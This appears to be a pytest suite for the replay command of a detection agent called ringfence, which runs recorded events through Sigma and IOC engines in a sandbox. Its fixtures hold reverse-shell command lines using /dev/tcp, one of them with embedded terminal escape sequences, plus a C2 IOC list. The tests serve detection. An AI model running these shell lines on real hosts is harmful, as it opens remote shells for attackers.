"""`ringfence replay`: recorded OCSF events (written here with the agent's own encoder) through the real
Sigma and IOC engines in the sandboxed child, as a user runs it, and what it must refuse."""

from __future__ import annotations

import json
import os
import pwd
import select
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path

import msgspec
import pytest

from ringfence.agent._child import SandboxedChild
from ringfence.agent._config import ExtensionsSection
from ringfence.agent._replay import ReplayError, ReplaySummary, _Reader, _run, replay
from ringfence.agent._replay_child import EngineSpec, ReplaySpec
from ringfence.content._default import default_pack
from ringfence.engines.ioc import IocEngine
from ringfence.engines.sigma import SigmaEngine
from ringfence.events import (
    DetectionFinding,
    DnsActivity,
    DnsActivityId,
    DnsQuery,
    Endpoint,
    Event,
    FileActivity,
    FileActivityId,
    Header,
    NetworkActivity,
    NetworkActivityId,
    OcsfEncoder,
    ProcessActivity,
    ProcessActivityId,
    ProcessRef,
    Severity,
    decode_line,
)
from tests.agent.helpers import eventually
from tests.engines.conftest import FakeContext
from tests.engines.sigma.build import rule

RINGFENCE = [sys.executable, "-m", "ringfence.cli"]
REVERSE_SHELL_RULE = "6c1f0c7e-0b4e-4e43-9a51-1e7d3a0c0001"
OWN_RULE = "7e57c11e-0000-4000-8000-00000000cafe"
T0 = 1_764_000_000_000_000_000  # 2025-11-24 16:00:00 UTC
ENCODER = OcsfEncoder()

SSHD = ProcessRef(pid=4000, exe="/usr/sbin/sshd", cmdline=("sshd:", "root@pts/0"), uid=0, user="root")
SHELL = ProcessRef(
    pid=4242,
    ppid=4000,
    exe="/usr/bin/bash",
    cmdline=("bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
    cwd="/root",
    uid=0,
    user="root",
    parent=SSHD,
)


def _header(n: int, sensor: str = "audit", at_s: float = 0) -> Header:
    at_ns = T0 + int(at_s * 1e9) + n * 1_000_000
    return Header(id=f"rec-{sensor}-{n}", time_ns=at_ns, mono_ns=n, host="web-1", sensor=sensor, seq=n)


def _exec(n: int, process: ProcessRef = SHELL, at_s: float = 0) -> ProcessActivity:
    return ProcessActivity(header=_header(n, at_s=at_s), activity=ProcessActivityId.LAUNCH, process=process)


def _connect(n: int, ip: str = "203.0.113.7", port: int = 4444) -> NetworkActivity:
    return NetworkActivity(
        header=_header(n),
        activity=NetworkActivityId.OPEN,
        syscall="connect",
        success=True,
        local=Endpoint(family="inet", ip="10.0.0.2", port=50000),
        remote=Endpoint(family="inet", ip=ip, port=port),
        process=SHELL,
    )


def _write(path: Path, *items: Event | bytes) -> Path:
    with path.open("wb") as f:
        for item in items:
            f.write(item if isinstance(item, bytes) else ENCODER.encode(item))
    return path


def _cli(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([*RINGFENCE, "replay", *args], capture_output=True, text=True, timeout=120, cwd="/")


@pytest.fixture
def root_only() -> Iterator[Path]:
    """Where an operator keeps recordings and rules: 0700, root's; the extension user cannot enter."""
    d = Path(tempfile.mkdtemp(prefix="rf-replay-", dir="/tmp"))
    d.chmod(0o700)
    yield d
    shutil.rmtree(d)


def _findings(events: Path, *rules: str, **kw: object) -> tuple[list[DetectionFinding], ReplaySummary]:
    got: list[DetectionFinding] = []
    summary = replay(str(events), list(rules), sink=lambda f, _line: got.append(f), **kw)  # type: ignore[arg-type]
    return got, summary


def test_a_recorded_reverse_shell_raises_the_default_packs_finding(root_only) -> None:
    events = _write(root_only / "events.jsonl", _exec(1))
    events.chmod(0o600)
    r = _cli(str(events))
    assert r.returncode == 0, r.stderr
    (line,) = [line for line in r.stdout.splitlines() if REVERSE_SHELL_RULE in line]  # the pack grows
    assert line.startswith("2025-11-24 16:00:00.001Z  HIGH  Reverse shell through a shell's /dev/tcp")
    assert f"[{REVERSE_SHELL_RULE}]  T1059.004  pid 4242 /usr/bin/bash: bash -c bash -i >& /dev/tcp/" in line
    assert line.endswith("(line 1)")
    assert "replay: 1 lines, 1 events (process 1), 0 bad lines; engines: ringfence.sigma" in r.stderr
    assert f"{REVERSE_SHELL_RULE}: 1" in r.stderr


def test_findings_are_those_the_live_engine_emits_for_the_same_events(root_only) -> None:
    """The Sigma engine with the whole default pack, hosted by a FakeContext on the records themselves
    (what the live engine gets is the same record), against the replay: the same findings."""
    recorded = [_exec(1), _connect(2), _exec(3, SSHD)]
    got, _ = _findings(_write(root_only / "events.jsonl", *recorded))
    pack = root_only / "pack"
    pack.mkdir()
    for path in default_pack()["sigma"]:
        shutil.copy(path, pack / f"default-{Path(path).name}")  # the names the agent stages them under
    ctx = FakeContext(content_directory=str(pack))
    engine = SigmaEngine(clock=lambda: T0)
    engine.setup(ctx)
    for event in recorded:
        engine.on_event(decode_line(ENCODER.encode(event)))
    assert [(f.title, f.severity, f.fields) for f in ctx.findings] == [
        (f.title, f.severity, {name: getattr(f, name) for name in live.fields})
        for f, live in zip(got, ctx.findings, strict=True)
    ]
    (finding,) = [f for f in got if f.rule == REVERSE_SHELL_RULE]
    assert finding.severity is Severity.HIGH
    assert {"rule", "description", "process", "related_event", "techniques", "tactics"} <= set(
        ctx.findings[got.index(finding)].fields
    )
    assert finding.related_event == "rec-audit-1" and finding.techniques == ("T1059.004",)
    assert finding.tactics == ("execution",) and finding.source == "ringfence.sigma"
    assert finding.header.sensor == "ext:ringfence.sigma" and finding.header.host == "web-1"
    assert finding.header.time_ns == T0 + 1_000_000  # the event's time (OCSF keeps ms), not the replay's
    assert "default-execution_reverse_shell.yml" in (finding.description or "")


def test_an_own_sigma_rule_and_an_ioc_list_run_beside_the_default_pack(root_only) -> None:
    (root_only / "port.yml").write_text(
        rule("sel:\n  DestinationPort: 4444\ncondition: sel", category="network_connection", rule_id=OWN_RULE)
    )
    (root_only / "c2.ioc").write_text("203.0.113.7  c2 server\n")
    for f in root_only.iterdir():
        f.chmod(0o600)
    events = _write(root_only / "events.jsonl", _connect(1), _connect(2, ip="198.51.100.9", port=80))
    got, summary = _findings(
        events, str(root_only / "port.yml"), str(root_only / "c2.ioc"), with_default=False
    )
    by_rule = {f.rule: f for f in got}
    assert set(by_rule) == {OWN_RULE, "ioc.ipv4"}
    assert by_rule[OWN_RULE].related_event == "rec-audit-1"
    assert "rules-000-port.yml" in (by_rule[OWN_RULE].description or "")  # as `run --rules` names it
    ioc = by_rule["ioc.ipv4"]
    assert (
        ioc.title == "Connection to listed address 203.0.113.7 (c2 server)" and ioc.severity is Severity.HIGH
    )
    assert ioc.source == "ringfence.reputation" and ioc.process is not None and ioc.process.pid == 4242
    assert " ".join(ioc.process.cmdline) == " ".join(SHELL.cmdline)
    assert "203.0.113.7 from rules-001-c2.ioc: connect 10.0.0.2:50000 -> 203.0.113.7:4444" in ioc.description
    assert summary.engines == ["ringfence.sigma", "ringfence.reputation"]


def test_the_ioc_engine_runs_under_the_id_in_force_on_connections_and_dns(root_only) -> None:
    (root_only / "c2.ioc").write_text("203.0.113.7\n*.evil.example\n")
    query = DnsActivity(
        header=_header(2, "dns"),
        activity=DnsActivityId.QUERY,
        query=DnsQuery(hostname="cdn.evil.example", type="A"),
        transaction_id=7,
        src=Endpoint(family="inet", ip="10.0.0.2", port=40000),
        dst=Endpoint(family="inet", ip="10.0.0.53", port=53),
    )
    got, _ = _findings(
        _write(root_only / "e.jsonl", _connect(1), query),
        str(root_only / "c2.ioc"),
        with_default=False,
        ioc_id="ringfence.ioc",
    )
    assert [(f.source, f.rule, f.related_event) for f in got] == [
        ("ringfence.ioc", "ioc.ipv4", "rec-audit-1"),
        ("ringfence.ioc", "ioc.domain", "rec-dns-2"),
    ]
    assert got[1].title == "DNS query for listed domain cdn.evil.example"


def test_repeats_are_one_finding_and_a_summary_on_the_events_time_not_the_replays(root_only) -> None:
    events = _write(
        root_only / "events.jsonl",
        _exec(1, at_s=0), _exec(2, at_s=10), _exec(3, at_s=20),  # one window of 60 s
        _exec(4, at_s=200),  # a new window, minutes later on the host
    )  # fmt: skip
    got, _ = _findings(events)
    titles = [
        (f.title, f.header.time_ns // 1_000_000_000 - T0 // 1_000_000_000)
        for f in got
        if f.rule == REVERSE_SHELL_RULE
    ]
    base = "Reverse shell through a shell's /dev/tcp or /dev/udp redirection"
    # the window closes when the host's clock passes it (at the next event, 200 s on), not at replay speed
    assert titles == [(base, 0), (f"{base} (2 more within 60 s)", 200), (base, 200)]


def test_bad_lines_are_named_skipped_and_counted_and_the_good_ones_still_run(root_only) -> None:
    huge = b'{"class_uid": 1007, "pad": "' + b"x" * (5 << 20) + b'"}\n'
    events = _write(
        root_only / "events.jsonl",
        b"not json\n",
        b"[1, 2, 3]\n",
        b'{"class_uid": 5001, "activity_id": 1, "time": 1, "metadata": {"uid": "x"}}\n',
        ENCODER.encode(_exec(9)).replace(b'"pid":4242', b'"pid":"4242"'),
        huge,
        _exec(1),
        b"\n",
    )
    r = _cli(str(events))
    assert r.returncode == 1
    assert f"[{REVERSE_SHELL_RULE}]" in r.stdout and "(line 6)" in r.stdout  # the good line after them
    errors = [line for line in r.stderr.splitlines() if line.endswith("line skipped")]
    assert errors == [
        f"ringfence: {events}:1: not JSON: JSON is malformed: invalid character (byte 4); line skipped",
        f"ringfence: {events}:2: not an OCSF event: Expected `object`, got `array`; line skipped",
        f"ringfence: {events}:3: Invalid value 5001 - at `$.class_uid` (Ringfence writes class_uid 0, 1001, "
        "1007, 2004, 3001, 3002, 4001, 4003); line skipped",
        f"ringfence: {events}:4: Expected `int`, got `str` - at `$.process.pid`; line skipped",
        f"ringfence: {events}:5: longer than 4194304 bytes; line skipped",
        f"ringfence: {events}:7: not JSON: Input data was truncated; line skipped",
    ]
    assert "replay: 7 lines, 1 events (process 1), 6 bad lines" in r.stderr
    summary = json.loads(_cli(str(events), "--json").stdout)
    assert summary["bad_lines"] == 6 and [b["line"] for b in summary["bad"]] == [1, 2, 3, 4, 5, 7]
    assert summary["findings_by_rule"][REVERSE_SHELL_RULE] == 1


def test_out_replaces_the_file_whole_and_a_failed_replay_leaves_it(root_only) -> None:
    out = root_only / "findings.jsonl"
    out.write_text("the previous run\n")
    events = _write(root_only / "events.jsonl", _exec(1), _exec(2, SSHD))
    broken = root_only / "broken.yml"
    broken.write_text("title: [broken\n")
    failed = _cli(str(events), "--no-default", "--rules", str(broken), "--out", str(out))
    assert failed.returncode == 1 and "ringfence.sigma failed its setup" in failed.stderr
    assert str(broken) in failed.stderr and "/tmp/ringfence-replay-" not in failed.stderr
    assert out.read_text() == "the previous run\n"
    assert [p.name for p in root_only.iterdir() if p.name.startswith(".findings")] == []
    done = _cli(str(events), "--out", str(out))
    assert done.returncode == 0, done.stderr
    assert done.stdout == "" and f"findings written to {out}" in done.stderr
    (line,) = [line for line in out.read_bytes().splitlines() if REVERSE_SHELL_RULE.encode() in line]
    finding = decode_line(line)
    assert isinstance(finding, DetectionFinding) and finding.rule == REVERSE_SHELL_RULE
    assert json.loads(line)["finding_info"]["attacks"][0]["sub_technique"] == {"uid": "T1059.004"}
    assert oct(out.stat().st_mode & 0o777) == "0o600"
    assert [p.name for p in root_only.iterdir() if p.name.startswith(".findings")] == []


def test_root_only_rules_and_events_reach_the_sandbox_through_roots_copy_and_stream(root_only) -> None:
    (root_only / "port.yml").write_text(
        rule("sel:\n  DestinationPort: 4444\ncondition: sel", category="network_connection", rule_id=OWN_RULE)
    )
    (root_only / "port.yml").chmod(0o600)
    events = _write(root_only / "events.jsonl", _connect(1))
    events.chmod(0o600)
    before = set(Path("/tmp").glob("ringfence-replay-*"))
    got, _ = _findings(events, str(root_only / "port.yml"), with_default=False)
    assert [f.rule for f in got] == [OWN_RULE]
    assert set(Path("/tmp").glob("ringfence-replay-*")) == before  # the copies are gone


def test_the_child_cannot_read_what_only_root_can(root_only) -> None:
    """Content the parent did not hand over (a root-only directory) is out of the sandbox's reach. (The IOC
    engine says so; the Sigma engine's rglob would see an empty directory.)"""
    (root_only / "c2.ioc").write_text("203.0.113.7\n")
    work = Path(tempfile.mkdtemp(prefix="rf-replay-work-", dir="/tmp"))
    events = _write(work / "events.jsonl", _connect(1))
    try:
        spec = ReplaySpec(
            engines=[EngineSpec(id="ringfence.ioc", content_dir=str(root_only))],
            max_line_bytes=1 << 20, max_frame_bytes=1 << 20,
        )  # fmt: skip
        reader = _Reader(ReplaySummary(events_file=str(events)), lambda f, n: None, lambda line: None, "t")
        with (
            SandboxedChild("replay", "replay", str(work), ExtensionsSection(), ReplayError) as child,
            events.open("rb") as source,
        ):
            _run(msgspec.structs.replace(spec, **child.spec_fields()), source, reader, None, 60)
    finally:
        shutil.rmtree(work)
    assert reader.failed is not None
    assert reader.failed == (
        f"ringfence.ioc failed its setup: ContentError: {root_only}: error: "
        "content directory missing or unreadable"
    )


def test_the_child_runs_as_the_extension_user_and_streams_stdin(root_only) -> None:
    user = pwd.getpwnam(ExtensionsSection().user)
    proc = subprocess.Popen(
        [*RINGFENCE, "replay", "-"],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        cwd="/",
    )
    assert proc.stdin is not None
    try:
        proc.stdin.write(ENCODER.encode(_exec(1)))
        proc.stdin.flush()
        uids: list[str] = []

        def child_uid() -> bool:
            for pid in os.listdir("/proc"):
                try:
                    status = Path(f"/proc/{pid}/status").read_text()
                    cmdline = Path(f"/proc/{pid}/cmdline").read_bytes()
                except OSError:
                    continue
                uid = next(x for x in status.splitlines() if x.startswith("Uid:"))
                mine = b"ringfence.agent._replay_child" in cmdline and f"PPid:\t{proc.pid}\n" in status
                if mine and uid.split()[1:] != ["0"] * 4:  # it starts as root, and drops it first thing
                    uids.append(uid)
                    return True
            return False

        assert eventually(child_uid)
        assert proc.stdout is not None  # the finding comes while stdin is still open: streamed, not slurped
        assert select.select([proc.stdout], [], [], 60)[0], "no finding before the end of the input"
        first = proc.stdout.readline()
        out, err = proc.communicate(timeout=120)
        out = first + out
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    assert uids[0].split()[1:] == [str(user.pw_uid)] * 4  # real, effective, saved, fs
    assert proc.returncode == 0, err
    assert f"[{REVERSE_SHELL_RULE}]".encode() in out


def test_yara_files_are_named_and_not_run_and_missing_paths_stop_the_replay(root_only) -> None:
    (root_only / "x.yar").write_text('rule x { strings: $a = "x" condition: $a }\n')
    events = _write(root_only / "events.jsonl", _exec(1))
    r = _cli(str(events), "--rules", str(root_only / "x.yar"))
    assert r.returncode == 0
    assert (
        "ringfence: yara: not run: YARA scans a file's contents at exec, and recorded events carry none"
        in r.stderr
    )
    missing = _cli(str(events), "--rules", str(root_only / "nope.yml"))
    assert missing.returncode == 1
    assert f"ringfence: --rules: {root_only / 'nope.yml'}: error: no such file or directory" in missing.stderr
    gone = _cli(str(root_only / "no-events.jsonl"))
    assert gone.returncode == 1 and "no-events.jsonl: cannot open: No such file or directory" in gone.stderr
    nothing = _cli(str(events), "--no-default")
    assert nothing.returncode == 1 and "no Sigma or IOC content to run" in nothing.stderr


def test_a_file_event_finding_names_the_file(root_only) -> None:
    (root_only / "cron.yml").write_text(
        rule("sel:\n  TargetFilename|startswith: /etc/cron.d/\ncondition: sel", category="file_event",
             rule_id=OWN_RULE)
    )  # fmt: skip
    event = FileActivity(header=_header(1, "file"), activity=FileActivityId.CREATE, path="/etc/cron.d/evil",
                         process=SHELL)  # fmt: skip
    got, _ = _findings(_write(root_only / "e.jsonl", event), str(root_only / "cron.yml"), with_default=False)
    (finding,) = got
    assert finding.file_path == "/etc/cron.d/evil" and finding.rule == OWN_RULE


def test_help_answers_what_runs_the_sandbox_the_outputs_and_the_exit_status() -> None:
    r = subprocess.run([*RINGFENCE, "replay", "--help"], capture_output=True, text=True, timeout=60)
    text = " ".join(r.stdout.split())
    for needed in (
        "sandbox",
        "YARA",
        "--out",
        "--json",
        "--no-default",
        "Exit status: 0",
        "1 a bad line",
        "stdin",
    ):
        assert needed in text, needed


def test_ioc_engine_is_hosted_with_the_events_clock() -> None:
    """Both engines take the replay's clocks: if one stopped taking them, windows would be on wall time."""
    import inspect

    assert {"clock", "wall_clock"} <= set(inspect.signature(IocEngine).parameters)
    assert "clock" in inspect.signature(SigmaEngine).parameters


def test_a_child_that_goes_quiet_is_killed_and_reported_in_one_line(root_only) -> None:
    """With no patience at all, any child is late: it is killed, its sandbox released, its copies gone."""
    events = _write(root_only / "events.jsonl", *(_exec(n) for n in range(1, 200)))
    before = set(Path("/tmp").glob("ringfence-replay-*"))
    with pytest.raises(ReplayError) as raised:
        replay(str(events), sink=lambda f, n: None, stall_s=0)
    assert str(raised.value) in {
        "replay: the engines took no input for 0 s: stopped",
        "replay: the engines said nothing for 0 s after the input ended: stopped",
    }
    assert not list(Path("/sys/fs/cgroup").glob(f"*/ringfence/replay-{os.getpid()}"))
    assert set(Path("/tmp").glob("ringfence-replay-*")) == before


def test_the_configs_mutes_and_engine_settings_apply_as_in_the_agent(root_only) -> None:
    """A muted executable never reaches an engine; the Sigma engine's dedup window comes from its table."""
    config = root_only / "rf.toml"
    config.write_text(
        '[broker]\nmute_executables = ["/usr/sbin/sshd-muted"]\n'
        '[extensions.config."ringfence.sigma"]\ndedup_window_s = 0\n'
    )
    muted = msgspec.structs.replace(SHELL, pid=4300, exe="/usr/sbin/sshd-muted")
    events = _write(root_only / "events.jsonl", _exec(1), _exec(2, at_s=1), _exec(3, muted))
    r = _cli(str(events), "--config", str(config), "--json")
    summary = json.loads(r.stdout)
    assert r.returncode == 0, r.stderr
    assert summary["findings_by_rule"][REVERSE_SHELL_RULE] == 2  # no window: each exec its own finding
    assert summary["events_muted"] == 1 and summary["events"] == 3


def test_run_by_another_user_the_replay_runs_unsandboxed_as_that_user(shared_dir) -> None:
    events = _write(shared_dir / "events.jsonl", _exec(1))
    events.chmod(0o644)
    r = subprocess.run(
        ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", *RINGFENCE, "replay", str(events)],
        capture_output=True, text=True, timeout=120, cwd="/",
    )  # fmt: skip
    assert r.returncode == 0, r.stderr
    assert f"[{REVERSE_SHELL_RULE}]" in r.stdout


CORRELATION = """title: downloads in a burst
id: 7c1a0000-0000-4000-8000-00000000c001
status: test
level: critical
correlation:
    type: event_count
    rules:
        - 5f0a1c1e-0000-4000-8000-00000000b001
    group-by:
        - User
    timespan: 1m
    condition:
        gte: 3
"""


def test_a_correlation_counts_over_the_hosts_time_whatever_the_replays_speed(root_only) -> None:
    """Three downloads within a minute on the host fire it; the same three spread over three minutes do
    not, though the replay feeds both in a blink."""
    (root_only / "curl.yml").write_text(
        rule("sel:\n  Image|endswith: /curl\ncondition: sel", rule_id="5f0a1c1e-0000-4000-8000-00000000b001")
    )
    (root_only / "burst.yml").write_text(CORRELATION)
    curl = [ProcessRef(pid=5000 + n, exe="/usr/bin/curl", cmdline=("curl", f"http://x/{n}"), user="alice")
            for n in range(3)]  # fmt: skip
    burst = _write(root_only / "burst.jsonl", *(_exec(n, curl[n], at_s=n * 10) for n in range(3)))
    spread = _write(root_only / "spread.jsonl", *(_exec(n, curl[n], at_s=n * 70) for n in range(3)))
    rules = (str(root_only / "curl.yml"), str(root_only / "burst.yml"))
    fired, _ = _findings(burst, *rules, with_default=False)
    quiet, summary = _findings(spread, *rules, with_default=False)
    assert [f.title for f in fired if f.rule == "7c1a0000-0000-4000-8000-00000000c001"] == [
        "downloads in a burst"
    ]
    assert [f.rule for f in quiet if f.rule == "7c1a0000-0000-4000-8000-00000000c001"] == []
    assert summary.events == 3


def test_a_rule_that_does_not_load_is_named_the_others_run_and_the_exit_is_one(root_only) -> None:
    (root_only / "rules.yml").write_text(
        rule("sel:\n  CommandLine|re: '(a)\\1'\ncondition: sel", rule_id=OWN_RULE)  # re2 has no backreference
        + "---\n"
        + rule("sel:\n  DestinationPort: 4444\ncondition: sel", category="network_connection")
    )
    r = _cli(
        str(_write(root_only / "e.jsonl", _connect(1))),
        "--no-default",
        "--rules",
        str(root_only / "rules.yml"),
    )
    assert r.returncode == 1
    assert "test rule" in r.stdout and "(line 1)" in r.stdout  # the rule that loads raised its finding
    assert f"{root_only / 'rules.yml'}" in r.stderr and OWN_RULE in r.stderr
    assert "/tmp/ringfence-replay-" not in r.stderr
    assert "ringfence.sigma: a content problem (above): exit status 1" in r.stderr


def test_an_attackers_command_line_cannot_drive_the_terminal(root_only) -> None:
    evil = msgspec.structs.replace(
        SHELL, cmdline=("bash", "-c", "\x1b]0;owned\x07\x1b[2J exec 3<>/dev/tcp/h/1")
    )
    r = _cli(str(_write(root_only / "e.jsonl", _exec(1, evil))))
    assert r.returncode == 0, r.stderr
    assert "\x1b" not in r.stdout and "\x07" not in r.stdout
    assert "\\x1b]0;owned\\x07\\x1b[2J exec 3<>/dev/tcp/h/1" in r.stdout


def test_a_reader_that_goes_away_ends_the_replay_quietly(root_only) -> None:
    """`ringfence replay big.jsonl | head -1`: no traceback, the child stopped, its copies gone."""
    events = _write(root_only / "e.jsonl", *(_exec(n, at_s=n * 120) for n in range(1, 2000)))  # no dedup
    before = set(Path("/tmp").glob("ringfence-replay-*"))
    r = subprocess.run(
        f"{' '.join(RINGFENCE)} replay {events} | head -1", shell=True, capture_output=True, text=True,
        timeout=120, cwd="/",
    )  # fmt: skip
    assert REVERSE_SHELL_RULE in r.stdout and len(r.stdout.splitlines()) == 1
    assert "Traceback" not in r.stderr, r.stderr
    assert set(Path("/tmp").glob("ringfence-replay-*")) == before
